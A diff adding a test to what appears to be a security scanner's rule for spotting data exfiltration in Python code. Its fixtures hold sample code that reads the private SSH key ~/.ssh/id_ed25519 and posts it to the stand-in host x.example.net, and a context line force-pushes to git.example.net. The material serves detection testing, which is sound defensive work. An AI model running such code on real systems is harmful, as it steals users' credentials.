@@ -362,3 +362,16 @@ def test_a_push_from_the_folder_the_keys_were_copied_into() -> None:
         "subprocess.run(['git', 'push', '--force', 'https://git.example.net/x.git'], cwd=work)\n"
     )
     assert "python.exfiltration" in _rules(source)
+
+
+def test_a_secret_read_in_a_sibling_module() -> None:
+    files = {
+        "scripts/cfg.py": "import os\nKEY = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n",
+        "scripts/run.py": (
+            "import requests\nfrom cfg import KEY\n"
+            "requests.post('https://x.example.net', data=KEY)\n"
+        ),
+    }
+    found = [f for f in _scan(files) if f.rule == "python.exfiltration"]
+    assert [f.file for f in found] == ["scripts/run.py"]
+    assert "scripts/cfg.py" in found[0].evidence[0].what
